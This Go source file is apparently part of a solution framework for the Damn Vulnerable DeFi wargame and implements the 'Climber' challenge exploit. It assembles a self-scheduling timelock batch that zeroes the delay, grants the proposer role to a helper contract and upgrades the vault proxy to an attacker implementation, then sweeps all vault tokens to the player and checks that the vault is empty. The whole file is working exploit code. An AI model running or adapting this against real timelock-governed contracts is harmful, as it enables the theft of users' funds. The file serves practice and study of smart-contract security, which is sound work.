package scenarios

import (
	"context"
	"math/big"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/ethereum/go-ethereum/log"

	"github.com/mjkid221/damn-vulnerable-defi/exploit"
	"github.com/mjkid221/damn-vulnerable-defi/oracle"
	"github.com/mjkid221/damn-vulnerable-defi/payload"
)

// ProposerRole is the timelock role allowed to schedule operations.
var ProposerRole = crypto.Keccak256Hash([]byte("PROPOSER_ROLE"))

// operationExecuted is OperationState.Executed in the timelock.
const operationExecuted = 3

const operationTypes = "address[],uint256[],bytes[],bytes32"

// TimelockOperation is a batch of calls the climber timelock schedules and
// executes as one unit.
type TimelockOperation struct {
	Targets []common.Address
	Values  []*big.Int
	Data    [][]byte
	Salt    common.Hash
}

func (op *TimelockOperation) add(target common.Address, data []byte) {
	op.Targets = append(op.Targets, target)
	op.Values = append(op.Values, new(big.Int))
	op.Data = append(op.Data, data)
}

// ID is the timelock's getOperationId: keccak256(abi.encode(targets,
// values, dataElements, salt)).
func (op *TimelockOperation) ID() (common.Hash, error) {
	enc, err := payload.EncodeArguments(operationTypes, op.Targets, op.Values, op.Data, [32]byte(op.Salt))
	if err != nil {
		return common.Hash{}, err
	}
	return crypto.Keccak256Hash(enc), nil
}

// Encode is call data for fn taking the operation as its four arguments,
// e.g. "execute" or "schedule".
func (op *TimelockOperation) Encode(fn string) ([]byte, error) {
	return payload.EncodeCall(fn+"("+operationTypes+")", op.Targets, op.Values, op.Data, [32]byte(op.Salt))
}

// ClimberOperation is the batch that schedules itself. The timelock only
// checks readiness after running the calls, so within one execute it drops
// its delay, makes the scheduler a proposer, upgrades the vault and lets the
// scheduler register this very operation.
func ClimberOperation(timelock, vault, upgrade, scheduler common.Address) (*TimelockOperation, error) {
	op := &TimelockOperation{}
	steps := []struct {
		target    common.Address
		signature string
		args      []interface{}
	}{
		{timelock, "updateDelay(uint64)", []interface{}{uint64(0)}},
		{timelock, "grantRole(bytes32,address)", []interface{}{[32]byte(ProposerRole), scheduler}},
		{vault, "upgradeTo(address)", []interface{}{upgrade}},
		{scheduler, "scheduleTimelock()", nil},
	}
	for _, s := range steps {
		data, err := payload.EncodeCall(s.signature, s.args...)
		if err != nil {
			return nil, err
		}
		op.add(s.target, data)
	}
	return op, nil
}

// Climber takes over the vault through the timelock that owns it and sweeps
// its tokens to the player.
//
// Addresses: vault, token. Optional: timelock (otherwise the vault's owner).
// Code: climber-vault-upgrade, an implementation exposing
// setSweeper(address) next to sweepFunds(address); climber-scheduler, built
// with constructor(address timelock, address vault, address token), which
// stores the operation through setSchedulePayload(address[],uint256[],bytes[],bytes32)
// and submits it to schedule() from scheduleTimelock().
func Climber(ctx context.Context, p Params) (*exploit.Config, error) {
	addrs, err := p.addresses("vault", "token")
	if err != nil {
		return nil, err
	}
	timelock, ok := p.Addresses["timelock"]
	if !ok {
		if p.Ledger == nil {
			timelock, err = p.address("timelock")
		} else {
			timelock, err = readAddress(ctx, p.Ledger, addrs["vault"], "owner()")
		}
		if err != nil {
			return nil, err
		}
	}
	addrs["timelock"] = timelock

	upgradeCode, err := p.code("climber-vault-upgrade")
	if err != nil {
		return nil, err
	}
	schedulerCode, err := p.code("climber-scheduler")
	if err != nil {
		return nil, err
	}
	schedulerDeploy, err := deployData(schedulerCode, "address,address,address", timelock, addrs["vault"], addrs["token"])
	if err != nil {
		return nil, err
	}

	// The operation names both helper contracts, so their addresses are
	// fixed before anything is sent and checked again at run time.
	nonce, err := p.accountNonce(ctx, "player-nonce", p.Player)
	if err != nil {
		return nil, err
	}
	addrs["player"] = p.Player
	addrs["climber-vault-upgrade"] = oracle.PredictUint64(p.Player, nonce)
	addrs["climber-scheduler"] = oracle.PredictUint64(p.Player, nonce+1)

	op, err := ClimberOperation(timelock, addrs["vault"], addrs["climber-vault-upgrade"], addrs["climber-scheduler"])
	if err != nil {
		return nil, err
	}
	opID, err := op.ID()
	if err != nil {
		return nil, err
	}
	store, err := op.Encode("setSchedulePayload")
	if err != nil {
		return nil, err
	}
	execute, err := op.Encode("execute")
	if err != nil {
		return nil, err
	}
	takeSweeper, err := payload.EncodeCall("setSweeper(address)", p.Player)
	if err != nil {
		return nil, err
	}
	sweep, err := payload.EncodeCall("sweepFunds(address)", addrs["token"])
	if err != nil {
		return nil, err
	}
	stateOf, err := payload.EncodeCall("getOperationState(bytes32)", [32]byte(opID))
	if err != nil {
		return nil, err
	}

	vaultTokens, err := p.tokenBalance(ctx, "vault-tokens", addrs["token"], addrs["vault"])
	if err != nil {
		return nil, err
	}
	owned, err := p.tokenBalance(ctx, "player-tokens", addrs["token"], p.Player)
	if err != nil {
		return nil, err
	}
	log.Info("climber operation planned", "timelock", timelock, "operation", opID, "upgrade", addrs["climber-vault-upgrade"], "scheduler", addrs["climber-scheduler"])

	upgradeRef, schedulerRef := exploit.Ref("climber-vault-upgrade"), exploit.Ref("climber-scheduler")
	return &exploit.Config{
		Name:      "climber",
		Addresses: addrs,
		Watch:     []common.Address{p.Player},
		Steps: []exploit.Step{
			&exploit.PredictAddress{Name: "upgrade-address", Deployer: exploit.Ref("player"), Expect: &upgradeRef},
			&exploit.SubmitCall{Name: "climber-vault-upgrade", Data: upgradeCode, RequireAddress: "upgrade-address"},
			&exploit.PredictAddress{Name: "scheduler-address", Deployer: exploit.Ref("player"), NonceFrom: "climber-vault-upgrade", Expect: &schedulerRef},
			&exploit.SubmitCall{Name: "climber-scheduler", Data: schedulerDeploy, RequireAddress: "scheduler-address"},
			&exploit.SubmitCall{Name: "store-operation", To: to("climber-scheduler"), Data: store},
			&exploit.SubmitCall{Name: "execute", To: to("timelock"), Data: execute},
			&exploit.SubmitCall{Name: "take-sweeper", To: to("vault"), Data: takeSweeper},
			&exploit.SubmitCall{Name: "sweep", To: to("vault"), Data: sweep},
		},
		Postconditions: []exploit.Postcondition{
			exploit.CallReturns(exploit.Ref("timelock"), stateOf, uintWord(operationExecuted)),
			exploit.StorageEquals(exploit.Ref("vault"), ImplementationSlot, common.BytesToHash(addrs["climber-vault-upgrade"].Bytes())),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("vault"), new(big.Int)),
			exploit.TokenBalanceEquals(exploit.Ref("token"), exploit.Ref("player"), new(big.Int).Add(owned, vaultTokens)),
		},
	}, nil
}
